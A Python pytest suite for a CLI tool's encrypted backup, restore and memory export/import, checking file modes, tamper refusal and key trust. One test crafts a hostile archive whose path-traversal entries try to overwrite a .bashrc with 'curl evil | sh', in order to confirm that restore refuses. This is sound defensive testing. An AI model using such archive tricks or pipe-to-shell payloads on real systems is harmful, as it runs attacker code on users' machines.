"""`bitterbot-node backup|restore` and `memory export` as a user runs them."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import clean_env, run_cli
from tests.daemons import Node

pytestmark = pytest.mark.slow  # real processes, hosts or chains (`-m "not slow"` skips them)

ENV = clean_env(BITTERBOT_MEMORY__EMBEDDER="hashing")
MEMORIES = [
    ("The staging database lives on db2", "fact"),
    ("Ana prefers answers in Spanish", "preference"),
    ("Deploys go out on Tuesdays after the standup", "task_pattern"),
    ("The VPN endpoint moved to vpn2.example.org", "fact"),
]


def cli(data: Path, *args: str) -> Any:
    result = run_cli(*args, "--data-dir", str(data), env=ENV, timeout=120)
    assert result.returncode == 0, result.stderr
    return result


def search(data: Path, query: str) -> list[tuple[str, str, float]]:
    """Ranked (id, text, score): scores to 4 places, since recency moves with the clock between calls."""
    hits = json.loads(cli(data, "memory", "search", query, "--json").stdout)
    return [(h["crystal"]["id"], h["crystal"]["text"], round(h["score"], 4)) for h in hits]


def make_node(tmp_path: Path) -> tuple[Path, Path]:
    """A node with a few memories and a note, made by the CLI as a user would (once per module:
    each test gets its own copy, ``node_copy``)."""
    data = tmp_path / "a"
    cli(data, "init")
    for text, kind in MEMORIES:
        cli(data, "memory", "add", text, "--type", kind)
    cli(data, "memory", "note", "Release 2.3 is blocked on the migration")
    passphrase = tmp_path / "pass"
    passphrase.write_text("a long backup passphrase\n")
    return data, passphrase


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    return make_node(tmp_path_factory.mktemp("template"))


def node_copy(template: tuple[Path, Path], tmp_path: Path) -> tuple[Path, Path]:
    """This test's own copy of the module's node, file modes and all (the CLI closed every file)."""
    data, passphrase = tmp_path / "a", tmp_path / "pass"
    shutil.copytree(template[0], data, symlinks=True)
    shutil.copy2(template[1], passphrase)
    return data, passphrase


def test_backup_then_restore_into_a_fresh_dir_gives_the_same_answers(
    tmp_path: Path, template: tuple[Path, Path]
) -> None:
    data, passphrase = node_copy(template, tmp_path)
    archive = tmp_path / "node.bbk"
    made = cli(data, "backup", str(archive), "--passphrase-file", str(passphrase))
    assert "(without keys)" in made.stdout and archive.stat().st_mode & 0o777 == 0o600
    assert b"staging database" not in archive.read_bytes()  # encrypted
    fresh = tmp_path / "b"
    restored = cli(fresh, "restore", str(archive), "--passphrase-file", str(passphrase))
    assert "restored" in restored.stdout
    for query in ("staging database", "Spanish", "deploy Tuesday", "blocked migration"):
        assert search(fresh, query) == search(data, query) != []
    scratch = (fresh / "workspace" / "memory" / "scratch.md").read_text()
    assert "Release 2.3 is blocked on the migration" in scratch
    assert not (fresh / "identity.key").exists()  # keys only when asked
    # Issue 27: restored files were 0644 until their next write; every file is 0600, every folder 0700.
    restored_files = [p for p in fresh.rglob("*") if p.is_file() and ".restore-" not in str(p)]
    assert restored_files and all(os.stat(p).st_mode & 0o777 == 0o600 for p in restored_files), [
        (str(p), oct(os.stat(p).st_mode & 0o777)) for p in restored_files if os.stat(p).st_mode & 0o777 != 0o600
    ]
    folders = [p for p in fresh.rglob("*") if p.is_dir()]
    assert all(os.stat(p).st_mode & 0o777 == 0o700 for p in folders), [
        (str(p), oct(os.stat(p).st_mode & 0o777)) for p in folders
    ]

    again = run_cli("restore", str(archive), "--passphrase-file", str(passphrase), "--data-dir", str(fresh), env=ENV)
    assert again.returncode == 2 and "already holds a node's memory" in again.stderr
    forced = cli(fresh, "restore", str(archive), "--passphrase-file", str(passphrase), "--force")
    assert "kept the previous file as" in forced.stdout
    assert search(fresh, "Spanish") == search(data, "Spanish")


def test_keys_travel_only_when_asked_and_stay_private(tmp_path: Path, template: tuple[Path, Path]) -> None:
    data, passphrase = node_copy(template, tmp_path)
    archive = tmp_path / "with-keys.bbk"
    cli(data, "backup", str(archive), "--passphrase-file", str(passphrase), "--include-keys")
    fresh = tmp_path / "c"
    cli(fresh, "restore", str(archive), "--passphrase-file", str(passphrase))
    assert (fresh / "identity.key").read_bytes() == (data / "identity.key").read_bytes()
    assert os.stat(fresh / "identity.key").st_mode & 0o777 == 0o600
    status = json.loads(cli(fresh, "status", "--json").stdout)
    assert status["identity"]["peer_id"] == json.loads(cli(data, "status", "--json").stdout)["identity"]["peer_id"]


def test_a_tampered_truncated_or_wrongly_keyed_backup_is_refused_and_nothing_changes(
    tmp_path: Path, template: tuple[Path, Path]
) -> None:
    data, passphrase = node_copy(template, tmp_path)
    archive = tmp_path / "node.bbk"
    cli(data, "backup", str(archive), "--passphrase-file", str(passphrase))
    blob = archive.read_bytes()
    tampered = tmp_path / "tampered.bbk"
    flipped = bytearray(blob)
    flipped[len(blob) // 2] ^= 0x40
    tampered.write_bytes(bytes(flipped))
    truncated = tmp_path / "truncated.bbk"
    truncated.write_bytes(blob[: len(blob) - 100])
    wrong = tmp_path / "wrong"
    wrong.write_text("not the passphrase\n")
    cases = [(tampered, passphrase, "altered"), (truncated, passphrase, "truncated"), (archive, wrong, "wrong key")]
    for bad, key, message in cases:
        target = tmp_path / f"target-{bad.stem}-{key.name}"
        refused = run_cli("restore", str(bad), "--passphrase-file", str(key), "--data-dir", str(target), env=ENV)
        assert refused.returncode == 2 and message in refused.stderr and "nothing was changed" in refused.stderr
        assert not (target / "memory").exists() and not (target / "workspace").exists()


def test_backup_is_consistent_while_the_daemon_runs_and_restore_refuses_a_running_node(
    tmp_path: Path, template: tuple[Path, Path]
) -> None:
    data, passphrase = node_copy(template, tmp_path)
    node = Node(tmp_path, "a", ENV)
    node.start()
    try:
        node.address()
        archive = tmp_path / "live.bbk"
        cli(data, "backup", str(archive), "--passphrase-file", str(passphrase))
        busy = run_cli("restore", str(archive), "--passphrase-file", str(passphrase), "--force", "--data-dir",
                       str(data), env=ENV)  # fmt: skip
        assert busy.returncode == 3 and "in use by a running bitterbot-node" in busy.stderr
    finally:
        log = node.stop()
    assert "Traceback" not in log
    fresh = tmp_path / "d"
    cli(fresh, "restore", str(archive), "--passphrase-file", str(passphrase))
    assert search(fresh, "staging database") == search(data, "staging database")


def test_memory_export_writes_jsonl_without_confidential_crystals(tmp_path: Path, template: tuple[Path, Path]) -> None:
    data, _ = node_copy(template, tmp_path)
    cli(data, "memory", "add", "My bank password is hunter2-correct-horse")
    out = tmp_path / "memories.jsonl"
    done = cli(data, "memory", "export", str(out))
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    assert lines[0]["format"] == "bitterbot-memory"
    texts = {doc["text"] for doc in lines if doc.get("kind") == "crystal"}
    assert {text for text, _ in MEMORIES} <= texts and all("hunter2" not in t for t in texts)
    assert "confidential left out" in done.stdout
    assert out.stat().st_mode & 0o777 == 0o600  # issue 13: it took the umask's mode (0644)
    refused = run_cli("memory", "export", str(out), "--data-dir", str(data), env=ENV)
    assert refused.returncode == 2 and "exists" in refused.stderr


def rebuilt(archive: Path, passphrase: bytes, tmp: Path, extra: dict[str, bytes]) -> Path:
    """``archive`` opened, ``extra`` members added to its tar and manifest (digests right), sealed again:
    what someone handing a user a hostile backup can make."""
    import hashlib
    import io
    import tarfile

    from crypto.stream import StreamKey, decrypt_file, encrypt_file

    key = StreamKey(passphrase=passphrase)
    plain = io.BytesIO()
    with archive.open("rb") as source:
        decrypt_file(source, plain, key)
    plain.seek(0)
    out = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="r") as old, tarfile.open(fileobj=out, mode="w") as new:
        manifest: dict[str, Any] = {}
        for member in old.getmembers():
            data = old.extractfile(member)
            assert data is not None
            if member.name == "manifest.json":
                manifest = json.loads(data.read())
            else:
                new.addfile(member, data)
        for name, content in extra.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            new.addfile(info, io.BytesIO(content))
            manifest["sha256"][name] = hashlib.sha256(content).hexdigest()
        encoded = json.dumps(manifest).encode()
        info = tarfile.TarInfo("manifest.json")
        info.size = len(encoded)
        new.addfile(info, io.BytesIO(encoded))
    hostile = tmp / "hostile.bbk"
    with hostile.open("wb") as sink:
        encrypt_file(io.BytesIO(out.getvalue()), sink, key, meta={"format": "bitterbot-node/backup", "version": 1})
    return hostile


def test_a_restore_never_writes_outside_the_data_dir(tmp_path: Path, template: tuple[Path, Path]) -> None:
    """Issue 13: a member named workspace//abs/path was written to /abs/path (Path / "/abs" is absolute)."""
    data, passphrase = node_copy(template, tmp_path)
    archive = tmp_path / "node.bbk"
    cli(data, "backup", str(archive), "--passphrase-file", str(passphrase))
    victim = tmp_path / "home" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text("my shell settings\n")
    escapes = {
        f"workspace/{victim}": b"curl evil | sh\n",  # workspace//tmp/.../.bashrc
        "workspace/a/../../../outside.txt": b"x",
    }
    for name, content in escapes.items():
        hostile = rebuilt(archive, b"a long backup passphrase", tmp_path, {name: content})
        target = tmp_path / "target"
        refused = run_cli("restore", str(hostile), "--passphrase-file", str(passphrase), "--data-dir", str(target),
                          env=ENV)  # fmt: skip
        assert refused.returncode == 2, refused.stdout + refused.stderr
        assert "outside" in refused.stderr and "nothing was changed" in refused.stderr
        assert victim.read_text() == "my shell settings\n"
        assert not (tmp_path / "outside.txt").exists() and not (target / "memory").exists()


def test_memory_files_and_folders_are_the_owners_alone_and_old_ones_are_tightened(
    tmp_path: Path, template: tuple[Path, Path]
) -> None:
    """Issue 13: the database, its WAL and the memory folders were created 0644 / 0755."""
    data, _ = node_copy(template, tmp_path)
    cli(data, "memory", "dream")
    db = data / "memory" / "crystals.db"  # the default [memory] db_file and [dream] workspace_dir
    workspace = data / "workspace"
    private = [db.parent, workspace, workspace / "memory"]
    files = [db, workspace / "MEMORY.md", workspace / "memory" / "scratch.md"]
    for folder in private:
        assert folder.stat().st_mode & 0o777 == 0o700, folder
    for file in files:
        assert file.stat().st_mode & 0o777 == 0o600, file
    # A data dir from an earlier release, opened up: the next command tightens it.
    for folder in private:
        os.chmod(folder, 0o755)
    os.chmod(db, 0o644)
    cli(data, "memory", "add", "The backup window is 02:00-04:00", "--type", "fact")
    assert db.stat().st_mode & 0o777 == 0o600 and db.parent.stat().st_mode & 0o777 == 0o700
    wal = db.with_name(db.name + "-wal")
    assert not wal.exists() or wal.stat().st_mode & 0o777 == 0o600


def test_memory_export_then_import_elsewhere_keeps_types_origins_and_supersession(
    tmp_path: Path, template: tuple[Path, Path]
) -> None:
    """Issue 32: an imported export came back as episodes from a session, and the outdated fact first.
    Issue 47: as it was only on a node of the same identity (the file is signed by it); on another
    node it is imported text, and the import says so."""
    data, _ = node_copy(template, tmp_path)
    ids = {hit[1]: hit[0] for hit in search(data, "staging database VPN endpoint Spanish Tuesdays")}
    newer = cli(data, "memory", "add", "The staging database moved to db5", "--type", "fact", "--json")
    old = ids["The staging database lives on db2"]
    cli(data, "memory", "supersede", old, json.loads(newer.stdout)["crystal"]["id"])
    out = tmp_path / "memories.jsonl"
    assert "signed by this node" in cli(data, "memory", "export", str(out)).stdout

    fresh = tmp_path / "b"  # this node again, on a new machine: its key came along (`backup --include-keys`)
    fresh.mkdir(mode=0o700)
    shutil.copy2(data / "identity.key", fresh / "identity.key")
    cli(fresh, "init")
    done = cli(fresh, "memory", "import", str(out))
    assert "restored 1 supersessions" in done.stdout and "imported text" not in done.stdout + done.stderr
    for text, kind in MEMORIES:
        shown = json.loads(cli(fresh, "memory", "show", ids[text], "--json").stdout)
        assert (shown["crystal"]["semantic_type"], shown["crystal"]["origin"]) == (kind, "user_input"), text
        assert shown["crystal"]["speaker"] == "person", text
    assert search(fresh, "staging database")[0][1] == "The staging database moved to db5"
    again = cli(fresh, "memory", "import", str(out))
    assert "imported 0 new crystals from 0 files" in again.stdout and "1 files unchanged" in again.stdout

    stranger = tmp_path / "c"  # another node: the file vouches for nothing there
    cli(stranger, "init")
    done = cli(stranger, "memory", "import", str(out))
    assert "signed by a key this node does not trust" in done.stderr and "came in as imported text" in done.stdout
    assert search(stranger, "staging database")[0][1] == "The staging database moved to db5"  # its own order
    for hit in search(stranger, "staging database VPN endpoint Spanish Tuesdays"):
        shown = json.loads(cli(stranger, "memory", "show", hit[0], "--json").stdout)["crystal"]
        assert (shown["speaker"], shown["origin"]) == ("file", "indexed") and hit[0] not in ids.values()
